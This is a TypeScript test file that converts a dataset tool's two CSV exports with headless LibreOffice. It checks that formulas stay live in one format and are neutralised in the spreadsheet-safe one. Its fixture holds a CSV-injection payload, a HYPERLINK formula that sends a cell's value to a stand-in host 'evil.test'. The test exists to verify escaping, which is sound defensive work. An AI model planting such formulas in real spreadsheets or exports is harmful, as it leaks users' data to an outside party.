// What LibreOffice does with goldset's CSV exports (in the browser project: it drives a real desktop
// program, like the browser tests, and takes seconds). A ground truth =HYPERLINK(…&B2, …) becomes a
// live formula from ragas-csv, which keeps the exact text for pandas, and stays text from the
// spreadsheet-safe CSV that the Export page offers first.
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { setupAdmin, startTestApp, type Client, type TestApp } from '../helpers.ts';

const SOFFICE = '/usr/bin/soffice';
const FORMULA = '=HYPERLINK("http://evil.test/?leak="&B2,"Click")';
let app: TestApp;
let admin: Client;

beforeAll(async () => {
  app = await startTestApp();
  admin = await setupAdmin(app);
});
afterAll(async () => { await app.close(); });

describe.skipIf(!fs.existsSync(SOFFICE))('CSV exports opened in LibreOffice', () => {
  it('evaluates formulas from ragas-csv but none from the spreadsheet-safe CSV', async () => {
    const ds = app.ctx.datasets.create(null, { name: 'Sheets', description: '', language: 'en', domain: '' }).id;
    await admin.get(`/datasets/${ds}/import`);
    const rows = Array.from({ length: 12 }, (_, i) => JSON.stringify({ question: `Question ${i}`, ground_truth: i % 2 ? FORMULA : `=${i}+1`, notes: '@SUM(A1)' }));
    expect((await admin.upload(`/datasets/${ds}/import`, 'f.jsonl', rows.join('\n'))).status).toBe(200);
    const dir = fs.mkdtempSync(path.join(app.dir, 'lo-'));
    for (const format of ['ragas-csv', 'spreadsheet-csv']) {
      const res = await fetch(`${app.url}/datasets/${ds}/export/download?format=${format}&status=all`, { headers: { Cookie: admin.cookie } });
      fs.writeFileSync(path.join(dir, `${format}.csv`), Buffer.from(await res.arrayBuffer()));
    }
    execFileSync(SOFFICE, ['--headless', '--norestore', `-env:UserInstallation=file://${dir}/profile`, '--convert-to', 'fods', '--outdir', dir,
      path.join(dir, 'ragas-csv.csv'), path.join(dir, 'spreadsheet-csv.csv')], { timeout: 110_000, stdio: 'ignore' });
    const formulas = (file: string) => (fs.readFileSync(path.join(dir, file), 'utf8').match(/table:formula=/g) ?? []).length;
    expect(formulas('ragas-csv.fods')).toBe(12);
    expect(formulas('spreadsheet-csv.fods')).toBe(0);
    expect(fs.readFileSync(path.join(dir, 'spreadsheet-csv.fods'), 'utf8')).toContain('&apos;=HYPERLINK(');
  });
});
